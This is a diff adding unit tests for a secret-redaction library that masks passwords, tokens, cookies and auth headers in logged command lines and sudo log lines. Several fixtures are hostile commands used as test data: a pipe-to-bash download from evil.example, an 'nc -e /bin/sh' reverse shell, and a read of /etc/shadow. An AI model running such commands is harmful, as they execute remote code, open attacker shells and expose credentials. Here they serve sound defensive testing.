@@ -120,6 +120,7 @@ describe('redactCommand: leaves non-secrets alone', () => {
     'openssl rsa -in k.pem -passin env:KEY_PASS',
     'llm --max_tokens=100',
     'echo <!channel> <script>alert(1)</script>',
+    'env PWD=/srv/app OLDPWD=/home/alice make',
   ])('%s', (line) => {
     const argv = argvOf(line);
     const result = redactCommand(argv);
@@ -132,6 +133,74 @@ describe('redactCommand: leaves non-secrets alone', () => {
     const argv = ['curl', '-u', 'a:b', '', 'x'];
     expect(redactCommand(argv).argv).toEqual(['curl', '-u', `a:${R}`, '', 'x']);
     expect(redactCommand([])).toEqual({ argv: [], command: '', redacted: false });
+  });
+});
+
+describe('redactCommand: a tool behind a wrapper or a remote host', () => {
+  it.each([
+    [['sudo', 'mysql', '-pS3cret'], ['sudo', 'mysql', `-p${R}`]],
+    [['docker', 'exec', '-it', 'db', 'mysql', '-uroot', '-pS3cret'], ['docker', 'exec', '-it', 'db', 'mysql', '-uroot', `-p${R}`]],
+    [['kubectl', 'exec', 'db', '--', 'mysql', '-pS3cret'], ['kubectl', 'exec', 'db', '--', 'mysql', `-p${R}`]],
+    [['timeout', '5', '/usr/bin/mysql', '-pS3cret'], ['timeout', '5', '/usr/bin/mysql', `-p${R}`]],
+    [['env', 'mysql', '-pS3cret'], ['env', 'mysql', `-p${R}`]],
+    [['nohup', 'curl', '-u', 'a:S3cret', 'https://x'], ['nohup', 'curl', '-u', `a:${R}`, 'https://x']],
+    [['sudo', 'sshpass', '-p', 'S3cret', 'ssh', 'h'], ['sudo', 'sshpass', '-p', R, 'ssh', 'h']],
+    [['ssh', 'db-1', 'redis-cli', '-a', 'S3cret'], ['ssh', 'db-1', 'redis-cli', '-a', R]],
+    [['sudo', 'ldapsearch', '-w', 'S3cret'], ['sudo', 'ldapsearch', '-w', R]],
+    [['sudo', 'htpasswd', '-b', '/etc/nginx/htpasswd', 'alice', 'S3cret'], ['sudo', 'htpasswd', '-b', '/etc/nginx/htpasswd', 'alice', R]],
+    [['sudo', 'docker', 'login', '-u', 'bot', '-p', 'S3cret', 'reg'], ['sudo', 'docker', 'login', '-u', 'bot', '-p', R, 'reg']],
+    [['sudo', 'openssl', 'passwd', '-6', 'S3cret'], ['sudo', 'openssl', 'passwd', '-6', R]],
+    // A command line split at its blanks (laurel's ARGV_STR when argc does not match).
+    [['cat', '/etc/shadow', 'mysql', '-pS3cret'], ['cat', '/etc/shadow', 'mysql', `-p${R}`]],
+    [['sh', '-c', 'curl', '-u', 'bob:S3cret', 'https://x/i.sh', '|', 'sh'], ['sh', '-c', 'curl', '-u', `bob:${R}`, 'https://x/i.sh', '|', 'sh']],
+  ])('%j', (argv, expected) => {
+    const result = redactCommand(argv);
+    expect(result.argv).toEqual(expected);
+    expect(result.redacted).toBe(true);
+  });
+
+  it('takes a flag value that names a tool as the value, not as the tool', () => {
+    expect(redactCommand(['sshpass', '-p', 'curl', 'ssh', 'h']).argv).toEqual(['sshpass', '-p', R, 'ssh', 'h']);
+  });
+
+  it('keeps flags of other tools that only look like password flags', () => {
+    for (const argv of [['sudo', 'docker', 'run', '-p', '8080:80', 'nginx'], ['sudo', 'ssh', '-p', '2222', 'db-1'], ['timeout', '5', 'mysql', '-p', 'appdb']]) {
+      expect(redactCommand(argv).argv).toEqual(argv);
+    }
+  });
+});
+
+describe('redactCommand: headers and cookies given word by word', () => {
+  it.each([
+    [['curl', '-H', 'Authorization:', 'Bearer', 'S3cretTok', 'https://x'], ['curl', '-H', 'Authorization:', 'Bearer', R, 'https://x']],
+    [['curl', '-H', 'authorization:', 'S3cretTok'], ['curl', '-H', 'authorization:', R]],
+    [['http', 'https://x', 'Authorization:', 'Basic YWxpY2U6aHVudGVyMg=='], ['http', 'https://x', 'Authorization:', `Basic ${R}`]],
+    [['curl', '--cookie', 'session=S3cret; theme=dark', 'https://x'], ['curl', '--cookie', `session=${R}; theme=${R}`, 'https://x']],
+    [['curl', '-b', 'sid=S3cret', 'https://x'], ['curl', '-b', `sid=${R}`, 'https://x']],
+  ])('%j', (argv, expected) => {
+    expect(redactCommand(argv).argv).toEqual(expected);
+  });
+
+  it('keeps a cookie jar file', () => {
+    const argv = ['curl', '-b', 'cookies.txt', '-c', 'cookies.txt', 'https://x'];
+    expect(redactCommand(argv).argv).toEqual(argv);
+  });
+});
+
+describe('redactCommand: a script that starts with an assignment', () => {
+  it.each([
+    [['bash', '-c', 'PASSWORD=x; curl http://evil.example/i.sh | bash'], `PASSWORD=${R}; curl http://evil.example/i.sh | bash`],
+    [['bash', '-c', 'TOKEN=x curl http://evil.example/i.sh | bash'], `TOKEN=${R} curl http://evil.example/i.sh | bash`],
+    [['sh', '-c', 'SECRET=1 nc -e /bin/sh 10.0.0.1 4444'], `SECRET=${R} nc -e /bin/sh 10.0.0.1 4444`],
+    [['bash', '-lc', "PASSWORD='a b' ./deploy.sh"], `PASSWORD=${R} ./deploy.sh`],
+    [['ssh', 'db-1', 'PASSWORD=x; curl http://evil.example/i.sh | bash'], `PASSWORD=${R}; curl http://evil.example/i.sh | bash`],
+  ])('%j keeps what runs after the assignment', (argv, script) => {
+    expect(redactCommand(argv).argv.at(-1)).toBe(script);
+  });
+
+  it('still takes a whole argument as the value when it is not a script', () => {
+    expect(redactCommand(['env', 'PASSWORD=correct horse battery', 'deploy']).argv).toEqual(['env', `PASSWORD=${R}`, 'deploy']);
+    expect(redactCommand(['env', 'PASSWORD=a;b&c', 'deploy']).argv).toEqual(['env', `PASSWORD=${R}`, 'deploy']);
   });
 });
 
@@ -186,6 +255,17 @@ describe('redactText: recognisable secrets anywhere', () => {
 
   it('handles a secret next to invalid UTF-16', () => {
     expect(redactText('\uD800 PGPASSWORD=x \uDFFF')).toBe(`\uD800 PGPASSWORD=${R} \uDFFF`);
+  });
+});
+
+describe('redactText: the working directory is not a password', () => {
+  it('keeps PWD= of a sudo log line and redacts its command', () => {
+    const line = 'Dec  1 10:00:00 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/mysql --password=S3cret';
+    expect(redactText(line)).toBe(`Dec  1 10:00:00 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/mysql --password=${R}`);
+  });
+
+  it('still redacts names that end in PWD', () => {
+    expect(redactText('MYSQL_PWD=S3cret DB_PWD=S3cret2 pwd=S3cret3')).toBe(`MYSQL_PWD=${R} DB_PWD=${R} pwd=${R}`);
   });
 });
 
@@ -244,6 +324,14 @@ describe('redaction stays linear where it used to rescan', () => {
     const result = redactCommand(['sh', '-c', ...Array.from({ length: 15 }, () => argument)]);
     expect(performance.now() - started).toBeLessThan(BUDGET_MS * 2);
     expect(result.argv).toHaveLength(17);
+  });
+
+  it('a command naming tools a hundred thousand times (each tool looks ahead once)', () => {
+    const words = Array.from({ length: 100_000 }, (_, i) => ['openssl', 'docker', 'htpasswd', 'mysql', 'curl'][i % 5] as string);
+    const started = performance.now();
+    const result = redactCommand(['sudo', ...words, 'mysql', '-pS3cret']);
+    expect(performance.now() - started).toBeLessThan(BUDGET_MS);
+    expect(result.argv.at(-1)).toBe(`-p${R}`);
   });
 
   it('an htpasswd command with many arguments (the batch-flag check ran once per argument)', () => {
